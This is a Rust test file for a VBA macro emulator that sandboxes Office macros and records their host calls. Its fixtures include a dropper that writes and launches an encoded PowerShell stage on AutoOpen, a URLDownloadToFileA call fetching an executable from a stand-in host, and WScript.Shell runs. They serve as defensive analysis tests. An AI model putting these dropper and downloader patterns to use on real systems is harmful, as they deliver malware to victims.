use pretty_assertions::assert_eq;

use vba_emu::{
    Environment, EventKind, HostCall, HostCallKind, HostError, HostHandle, RecordingEnvironment,
    VbaProject, VbaRuntime, VbaValue,
};

fn runtime(sources: &[&str]) -> VbaRuntime {
    VbaRuntime::new(VbaProject::parse(sources.iter().copied()).expect("sources parse"))
}

fn module(body: &str) -> String {
    format!("Attribute VB_Name = \"Module1\"\n{body}")
}

#[test]
fn dropper_effects_are_routed_through_the_environment() {
    let runtime = runtime(&[include_str!("fixtures/dropper.bas")]);
    let mut env = RecordingEnvironment::new().with_env_var("TEMP", "C:\\Temp");
    let report = runtime.execute(&mut env, "AutoOpen", &[]);
    assert!(report.outcome.is_completed(), "{:?}", report.outcome);

    let kinds: Vec<_> = env
        .calls()
        .iter()
        .map(|c| (c.kind, c.operation.as_str()))
        .collect();
    assert_eq!(
        kinds,
        [
            (HostCallKind::CreateObject, "CreateObject"),
            (HostCallKind::Function, "Environ"),
            (HostCallKind::FileOpen, "Open"),
            (HostCallKind::FileWrite, "Print"),
            (HostCallKind::FileClose, "Close"),
            (HostCallKind::Method, "Run"),
        ]
    );

    let open = &env.calls()[2];
    assert_eq!(open.args, ["C:\\Temp\\stage.ps1", "Output", "1"]);
    let run = &env.calls()[5];
    assert_eq!(run.target, Some(HostHandle(1)));
    assert_eq!(run.args, ["powershell -File C:\\Temp\\stage.ps1", "0"]);

    assert_eq!(env.class_of(HostHandle(1)), Some("WScript.Shell"));
    assert_eq!(
        env.written("C:\\Temp\\stage.ps1"),
        Some("powershell -enc AAAA\r\n")
    );
    // The file is released by `Close`, the shell object when the run ends.
    assert_eq!(env.released(), [HostHandle(2), HostHandle(1)]);
}

#[test]
fn host_calls_appear_in_the_event_stream() {
    let runtime = runtime(&[include_str!("fixtures/dropper.bas")]);
    let mut env = RecordingEnvironment::new();
    let report = runtime.execute(&mut env, "NewMacros.AutoOpen", &[]);

    let operations: Vec<_> = report
        .host_calls()
        .filter_map(|k| match k {
            EventKind::HostCall { operation, .. } => Some(operation.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(operations, ["CreateObject", "Environ", "Open", "Print", "Close", "Run"]);

    let released: Vec<_> = report
        .events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::ResourceReleased { handle, .. } => *handle,
            _ => None,
        })
        .collect();
    assert_eq!(released, [HostHandle(2), HostHandle(1)]);

    let json = serde_json::to_value(&report.events).unwrap();
    let first_call = json
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["kind"]["type"] == "host_call")
        .unwrap();
    assert_eq!(first_call["kind"]["call"], "create_object");
    assert_eq!(first_call["kind"]["args"][0], "WScript.Shell");
    assert_eq!(first_call["procedure"], "NewMacros.AutoOpen");
}

#[test]
fn get_object_names_the_class_in_its_second_argument() {
    let source = module(
        r#"
Function Main()
    Dim app As Object
    Set app = GetObject(, "Word.Application")
    Main = TypeName(app)
End Function
"#,
    );
    let runtime = runtime(&[source.as_str()]);
    let mut env = RecordingEnvironment::new();
    let report = runtime.execute(&mut env, "Main", &[]);
    assert_eq!(report.returned(), Some(&VbaValue::from("Word.Application")));
    assert_eq!(env.class_of(HostHandle(1)), Some("Word.Application"));
}

#[test]
fn host_globals_are_fetched_once() {
    let source = module(
        r#"
Sub Main()
    Application.Run "Macro1"
    Application.Run "Macro2"
End Sub
"#,
    );
    let runtime = runtime(&[source.as_str()]);
    let mut env = RecordingEnvironment::new();
    runtime.execute(&mut env, "Main", &[]);

    let gets: Vec<_> = env.calls_of(HostCallKind::GetObject).collect();
    assert_eq!(gets.len(), 1);
    assert_eq!(gets[0].operation, "Application");
    let runs: Vec<_> = env
        .calls_of(HostCallKind::Method)
        .map(|c| (c.target, c.args[0].as_str()))
        .collect();
    assert_eq!(
        runs,
        [(Some(HostHandle(1)), "Macro1"), (Some(HostHandle(1)), "Macro2")]
    );
    assert_eq!(env.released(), [HostHandle(1)]);
}

#[test]
fn canned_responses_flow_back_into_the_program() {
    let source = module(
        r#"
Function Main()
    Dim answer
    answer = MsgBox("Continue?", 4)
    If answer = 6 Then Main = "yes" Else Main = "no"
End Function
"#,
    );
    let runtime = runtime(&[source.as_str()]);
    let mut env = RecordingEnvironment::new().with_response("MsgBox", VbaValue::Integer(6));
    let report = runtime.execute(&mut env, "Main", &[]);
    assert_eq!(report.returned(), Some(&VbaValue::from("yes")));
    assert_eq!(env.calls()[0].args, ["Continue?", "4"]);
}

#[test]
fn declared_externals_are_host_calls() {
    let source = module(
        r#"
Private Declare PtrSafe Function URLDownloadToFileA Lib "urlmon" (ByVal p As LongPtr, ByVal url As String, ByVal file As String, ByVal r As Long, ByVal cb As LongPtr) As Long

Sub Main()
    URLDownloadToFileA 0, "http://example.invalid/a.exe", "C:\a.exe", 0, 0
End Sub
"#,
    );
    let runtime = runtime(&[source.as_str()]);
    let mut env = RecordingEnvironment::new();
    runtime.execute(&mut env, "Main", &[]);
    let externals: Vec<_> = env.calls_of(HostCallKind::External).collect();
    assert_eq!(externals.len(), 1);
    assert_eq!(externals[0].args[1], "http://example.invalid/a.exe");
}

/// Refuses every activation and fails every other call.
struct Hostile;

impl Environment for Hostile {
    fn invoke(&mut self, call: &HostCall<'_>) -> Result<VbaValue, HostError> {
        match call.kind {
            HostCallKind::CreateObject => Err(HostError::Unsupported(call.operation.to_string())),
            _ => Err(HostError::Failed("denied".to_string())),
        }
    }
}

#[test]
fn environment_failures_are_trappable_runtime_errors() {
    let source = module(
        r#"
Function Main()
    Dim o As Object
    On Error Resume Next
    Set o = CreateObject("Foo.Bar")
    Main = Err.Number & "|" & (o Is Nothing)
End Function

Function Unprotected()
    Unprotected = Environ("PATH")
End Function
"#,
    );
    let runtime = runtime(&[source.as_str()]);
    let report = runtime.execute(&mut Hostile, "Main", &[]);
    assert_eq!(report.returned(), Some(&VbaValue::from("429|True")));

    let report = runtime.execute(&mut Hostile, "Unprotected", &[]);
    assert_eq!(report.outcome.error().map(|e| e.number()), Some(5));
}

#[test]
fn native_objects_never_reach_the_environment() {
    let source = module(
        r#"
Function Main()
    Dim d, c
    Set d = CreateObject("Scripting.Dictionary")
    Set c = New Collection
    d.Add "k", 1
    c.Add d("k")
    Main = TypeName(d) & c.Count
End Function
"#,
    );
    let runtime = runtime(&[source.as_str()]);
    let mut env = RecordingEnvironment::new();
    let report = runtime.execute(&mut env, "Main", &[]);
    assert_eq!(report.returned(), Some(&VbaValue::from("Dictionary1")));
    assert!(env.calls().is_empty());
}

#[test]
fn released_host_objects_are_unreachable_in_later_runs() {
    let source = module(
        r#"
Dim sh As Object
Dim kept As Collection

Sub Setup()
    Set sh = CreateObject("WScript.Shell")
    Set kept = New Collection
    kept.Add CreateObject("WScript.Shell")
End Sub

Function Check()
    Check = (sh Is Nothing) & "|" & kept.Count
End Function

Sub UseShell()
    sh.Run "calc.exe"
End Sub

Sub UseKept()
    kept(1).Run "calc.exe"
End Sub
"#,
    );
    let runtime = runtime(&[source.as_str()]);
    let mut env = RecordingEnvironment::new();
    let setup = runtime.execute(&mut env, "Setup", &[]);
    assert!(setup.outcome.is_completed(), "{:?}", setup.outcome);
    assert_eq!(env.released(), [HostHandle(1), HostHandle(2)]);

    let check = runtime.execute(&mut env, "Check", &[]);
    assert_eq!(check.returned(), Some(&VbaValue::from("True|1")));

    for entry in ["UseShell", "UseKept"] {
        let report = runtime.execute(&mut env, entry, &[]);
        assert_eq!(report.outcome.error().map(|e| e.number()), Some(91), "{entry}");
        assert_eq!(report.host_calls().count(), 0, "{entry}");
    }
    assert_eq!(env.calls_of(HostCallKind::Method).count(), 0);
}
